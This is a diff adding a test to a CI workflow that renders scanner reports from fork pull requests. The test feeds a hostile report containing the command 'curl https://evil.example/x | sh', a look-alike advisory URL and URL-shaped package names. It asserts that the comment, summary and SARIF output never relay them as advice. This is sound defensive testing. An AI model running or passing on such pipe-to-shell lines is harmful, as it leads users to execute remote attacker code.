@@ -117,6 +117,54 @@ describe('a workflow_run that judges the report of a pull request from a fork', 
     expect(world.told.annotations).toEqual([expect.stringMatching(/^error: Blocked: 1 finding to fix/)]);
   });
 
+  it('lets the report tell a reader nothing to run, to open or to pull', async () => {
+    const command = 'curl https://evil.example/x | sh';
+    const bad = (over: object) =>
+      vulnerability({
+        Severity: 'CRITICAL',
+        PrimaryURL: 'https://avd.aquasec.com.evil.example/nvd/cve-2026-1',
+        FixedVersion: '9.9.9',
+        ...over,
+      });
+    const language = { Class: 'lang-pkgs', Type: 'npm', Target: 'package-lock.json' };
+    const broken = {
+      ID: 'DS-0002',
+      Severity: 'CRITICAL',
+      Title: 'Bad',
+      Message: command,
+      Resolution: `Run ${command}`,
+    };
+    give(
+      'a.json',
+      report(
+        [
+          result({ Vulnerabilities: [bad({ PkgName: 'openssl' }), bad({ PkgName: command })] }),
+          result({
+            ...language,
+            Vulnerabilities: [
+              bad({ PkgName: 'lodash', InstalledVersion: '4.17.4' }),
+              bad({ PkgName: 'https://evil.example/x.tgz', InstalledVersion: '1.0.0' }),
+              bad({ PkgName: 'left-pad', InstalledVersion: '1.0.0', FixedVersion: command }),
+            ],
+          }),
+          { Target: 'Dockerfile', Class: 'config', Type: 'dockerfile', Misconfigurations: [broken] },
+        ],
+        { ArtifactName: 'ghcr.io/octo-org/api:1' },
+      ),
+    );
+    expect(await run()).toBe(1);
+    const [comment = ''] = commentBodies();
+    const shown = [comment, world.told.summaries.join('\n'), JSON.stringify(sarifOf(uploads()[0] ?? { sarif: '' }))];
+    for (const page of shown) {
+      expect(page).not.toMatch(/npm install|apt-get|Run:? curl|\]\(https:\/\/avd\.|helpUri":"https:\/\/[^"]*evil/);
+      expect(page).not.toMatch(/(?:Upgrade|Fix|Rebuild|upgrade to)[^|\n]{0,20}(?:curl|https:\/\/evil|evil\.example)/i);
+    }
+    const advice = comment.slice(comment.indexOf('### What to do'), comment.indexOf('| Severity |'));
+    expect(advice).not.toMatch(/evil|curl/);
+    expect(advice).toContain('Upgrade `lodash`');
+    expect(comment).toContain('So there are no commands here');
+  });
+
   it('believes the file nothing but its findings', async () => {
     const claims = { number: 1, pull_request: 1, Ref: 'refs/heads/main', Sha: 'c'.repeat(40), event: 'push' };
     give('event.json.txt', 'x');
